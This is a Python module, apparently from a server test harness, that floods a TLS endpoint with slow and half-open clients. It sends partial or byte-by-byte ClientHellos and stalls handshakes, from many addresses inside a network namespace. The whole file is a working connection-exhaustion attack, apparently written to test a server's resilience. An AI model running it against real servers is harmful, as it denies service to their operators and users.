# SPDX-License-Identifier: BSD-3-Clause
"""Slow and half-open TLS clients, each from an address of its own, as many at once as asked for. Runs in a
namespace, to which every address of SOURCES is local; whoever is closed comes back after a while. Prints a
line of JSON each second."""

import collections
import heapq
import json
import os
import resource
import selectors
import socket
import ssl
import sys
import time

from . import netns
from .util import sh

SOURCES = "100.64.0.0/16"
KINDS = ("tcp", "half", "hello", "withheld", "octets")
BACK_S = 5.0


def sources(namespace, on):
    """Every address of SOURCES is local there, or no longer."""
    sh("ip", "-n", netns.ns(namespace), "route", "add" if on else "del", "local", SOURCES, "dev", "lo",
       check=on)


class Client:
    """One connection. It knows when it wants to be woken next."""

    def __init__(self, flood, n):
        self.flood, self.kind = flood, KINDS[n % len(KINDS)]
        self.address = f"100.64.{n // 250}.{n % 250 + 1}"
        self.sock = None

    def open(self):
        self.sock = socket.socket()
        self.sock.setblocking(False)
        self.sock.bind((self.address, 0))
        self.sock.connect_ex(self.flood.target)
        self.said = 0
        self.tls = None
        self.flood.poll.register(self.sock, selectors.EVENT_WRITE, self)

    def close(self, what):
        self.flood.count[what] += 1
        self.flood.poll.unregister(self.sock)
        self.sock.close()
        self.sock = None
        self.flood.later(BACK_S, self.open)

    def say(self, octets):
        try:
            self.sock.send(octets)
        except OSError:
            self.close("closed")

    def begin(self):
        """Connected."""
        self.flood.count["connected"] += 1
        self.flood.poll.modify(self.sock, selectors.EVENT_READ, self)
        if self.kind == "half":
            self.say(self.flood.hello[:100])
        elif self.kind == "hello":
            self.say(self.flood.hello)
        elif self.kind == "withheld":
            self.into, self.out = ssl.MemoryBIO(), ssl.MemoryBIO()
            self.tls = self.flood.ctx.wrap_bio(self.into, self.out)
            self.shake()
        elif self.kind == "octets":
            self.octet()

    def octet(self):
        if self.sock and self.said < 60:
            self.said += 1
            self.flood.later(1.0, self.octet)
            self.say(self.flood.hello[self.said - 1:self.said])

    def shake(self):
        try:
            self.tls.do_handshake()
        except ssl.SSLWantReadError:
            pass
        except ssl.SSLError:
            return self.close("refused")
        self.say(self.out.read())

    def take(self, events):
        if events & selectors.EVENT_WRITE:
            if self.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                return self.close("failed")
            return self.begin()
        try:
            octets = self.sock.recv(65536)
        except OSError:
            octets = b""
        if not octets:
            return self.close("closed")
        if self.tls:
            self.into.write(octets)
            self.shake()


class Flood:
    def __init__(self, target, clients, rate):
        self.target, self.rate = target, rate
        self.poll, self.timers, self.serial = selectors.EpollSelector(), [], 0
        self.count = collections.Counter()
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.ctx.check_hostname, self.ctx.verify_mode = False, ssl.CERT_NONE
        self.ctx.maximum_version = ssl.TLSVersion.TLSv1_2 # where the client's certificate comes last
        out = ssl.MemoryBIO()
        try:
            self.ctx.wrap_bio(ssl.MemoryBIO(), out).do_handshake()
        except ssl.SSLWantReadError:
            self.hello = out.read()
        for i in range(clients):
            self.later(i / rate, Client(self, i).open)

    def later(self, wait_s, what):
        self.serial += 1
        heapq.heappush(self.timers, (time.monotonic() + wait_s, self.serial, what))

    def run(self, seconds):
        end, tell = time.monotonic() + seconds, 0
        while (now := time.monotonic()) < end:
            for _ in range(100):
                if self.timers and self.timers[0][0] <= now:
                    heapq.heappop(self.timers)[2]()
            for key, events in self.poll.select(0.005):
                key.data.take(events)
            if now >= tell:
                tell = now + 1
                print(json.dumps({"open": len(self.poll.get_map()), **self.count}), flush=True)


def main():
    host, port, clients, rate, seconds = sys.argv[1:]
    resource.setrlimit(resource.RLIMIT_NOFILE, (int(clients) + 1000,) * 2)
    os.nice(5) # the attacker has a machine of his own
    Flood((host, int(port)), int(clients), float(rate)).run(float(seconds))


if __name__ == "__main__":
    main()
